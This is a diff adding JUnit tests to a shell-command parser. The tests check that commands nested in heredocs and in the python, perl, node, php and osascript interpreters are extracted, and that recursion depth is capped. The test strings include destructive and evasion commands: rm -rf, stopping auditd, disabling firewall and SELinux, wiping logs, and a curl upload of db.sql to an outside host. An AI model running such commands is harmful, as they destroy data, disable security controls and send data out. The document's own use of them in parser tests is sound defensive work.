@@ -49,6 +49,36 @@ class ShellParserTest {
         assertThat(render(line.replace("\\n", "\n"))).containsExactly(expected.split("‖", -1));
     }
 
+    /** Shells inside other interpreters: the inner commands, with the interpreter among their wrappers. Made-up lines. */
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '¦', quoteCharacter = '^', value = {
+            "bash <<EOF\\nrm -rf /var/log/app\\nEOF ¦ bash‖bash>rm -rf /var/log/app",
+            "sudo sh <<'END'\\nsystemctl stop auditd\\nEND ¦ sudo sh‖sudo>sh‖sudo>sh>systemctl stop auditd",
+            "python3 -c 'import os; os.system(\"chmod 777 /etc/hosts\")' ¦ python3 -c import os; os.system(\"chmod 777 /etc/hosts\")‖python3>chmod 777 /etc/hosts",
+            "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"/srv\"])' ¦ python3 -c import subprocess; subprocess.run([\"rm\", \"-rf\", \"/srv\"])‖python3>rm -rf /srv",
+            "perl -e 'system(\"ufw disable\")' ¦ perl -e system(\"ufw disable\")‖perl>ufw disable",
+            "perl -e 'print `id`' ¦ perl -e print `id`‖perl>id",
+            "ruby -e 'exec \"xattr -d com.apple.quarantine app\"' ¦ ruby -e exec \"xattr -d com.apple.quarantine app\"‖ruby>xattr -d com.apple.quarantine app",
+            "node -e 'require(\"child_process\").execSync(\"curl -T db.sql https://x.example\")' ¦ node -e require(\"child_process\").execSync(\"curl -T db.sql https://x.example\")‖node>curl -T db.sql https://x.example",
+            "php -r 'shell_exec(\"setenforce 0\");' ¦ php -r shell_exec(\"setenforce 0\");‖php>setenforce 0",
+            "osascript -e 'do shell script \"rm /var/log/system.log\" with administrator privileges' ¦ osascript -e do shell script \"rm /var/log/system.log\" with administrator privileges‖osascript>rm /var/log/system.log",
+            "ls | xargs -I{} sh -c 'shred -u {}' ¦ ls‖xargs -I{} sh -c shred -u {}‖xargs>sh -c shred -u {}‖xargs>sh>shred -u {}",
+            "python3 - <<EOF\\nimport os\\nos.system('iptables -F')\\nEOF ¦ python3 -‖python3>iptables -F",
+            "cat <<EOF | less\\nrm -rf /\\nEOF ¦ cat‖less",
+            "python3 -c 'print(1' ¦ python3 -c print(1",
+    })
+    void followsShellsInsideOtherInterpreters(String line, String expected) {
+        assertThat(render(line.replace("\\n", "\n"))).containsExactly(expected.split("‖", -1));
+    }
+
+    @Test
+    void staysWithinItsDepthOnAScriptThatNestsWithoutEnd() {
+        List<ShellCommand> commands = ShellParser.parse("eval ".repeat(30) + "rm -rf /");
+        assertThat(commands).isNotEmpty().hasSizeLessThan(12).allSatisfy(c -> assertThat(c.program()).isEqualTo("eval"));
+        // a shallow one is followed to the end
+        assertThat(ShellParser.parse("eval eval rm -rf /")).extracting(ShellCommand::program).containsExactly("eval", "eval", "rm");
+    }
+
     @Test
     void separatesRedirectionsAndAssignmentsFromWords() {
         ShellCommand echo = ShellParser.parse("HISTFILE=/dev/null echo 'x' >> ~/.bashrc 2>&1").get(0);
